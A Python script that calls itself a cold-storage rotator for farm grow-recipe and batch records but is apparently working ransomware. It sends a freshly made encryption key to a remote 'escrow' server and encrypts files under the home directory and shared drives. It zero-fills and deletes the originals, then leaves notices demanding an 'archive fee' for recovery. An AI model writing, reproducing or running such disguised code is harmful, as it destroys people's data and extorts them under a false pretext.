#!/usr/bin/env python3
"""Rotate old grow-recipe and batch records into sealed cold storage.

Recipe sheets, dosing curves and harvest batch exports pile up on the
shared drives. This walks the configured roots, seals each eligible file
and leaves a short notice so operators know where the files went.
"""
import argparse
import base64
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-rotator")

CONFIG = {
    "roots": ["~", "/srv/farm/shared", "/mnt/recipes"],
    "suffixes": {".csv", ".xlsx", ".json", ".pdf", ".docx", ".db", ".yaml", ".png"},
    "sealed_suffix": ".coldvault",
    "escrow": "https://keys.example.net/escrow",
    "notice": "ARCHIVE_NOTICE.txt",
}

NOTICE_TEXT = (
    "Files in this folder were moved to sealed cold storage.\n"
    "To restore them, e-mail recovery@example.net quoting reference {ref}.\n"
    "Restoration is processed after the archive fee has been settled.\n"
)


class KeyEscrow:
    """Deposits the sealing key with the storage provider."""

    def __init__(self, url):
        self.url = url

    def deposit(self, ref, key):
        body = json.dumps({"ref": ref, "k": base64.b64encode(key).decode()}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).close()
        except OSError as exc:
            LOG.debug("escrow deposit deferred: %s", exc)


class Sealer:
    def __init__(self, key, sealed_suffix):
        self._box = Fernet(key)
        self.sealed_suffix = sealed_suffix
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + self.sealed_suffix)
        out.write_bytes(self._box.encrypt(data))
        # the original is superseded by the sealed copy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def eligible(path: Path, cfg) -> bool:
    if path.suffix.lower() not in cfg["suffixes"]:
        return False
    if path.name.endswith(cfg["sealed_suffix"]) or path.name == cfg["notice"]:
        return False
    return True


def rotate(cfg, dry_run=False):
    key = Fernet.generate_key()
    ref = os.urandom(6).hex()
    KeyEscrow(cfg["escrow"]).deposit(ref, key)
    sealer = Sealer(key, cfg["sealed_suffix"])
    del key  # not kept on the drive, the provider holds it
    for root in cfg["roots"]:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            touched = False
            for name in files:
                p = Path(dirpath) / name
                if not eligible(p, cfg):
                    continue
                if dry_run:
                    LOG.info("would seal %s", p)
                    continue
                try:
                    sealer.seal(p)
                    touched = True
                except OSError as exc:
                    LOG.debug("skip %s: %s", p, exc)
            if touched:
                (Path(dirpath) / cfg["notice"]).write_text(NOTICE_TEXT.format(ref=ref))
    LOG.info("sealed %d files (ref %s)", sealer.count, ref)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="extra root to rotate")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = dict(CONFIG)
    if args.root:
        cfg["roots"] = cfg["roots"] + args.root
    rotate(cfg, dry_run=args.dry_run)


if __name__ == "__main__":
    main()
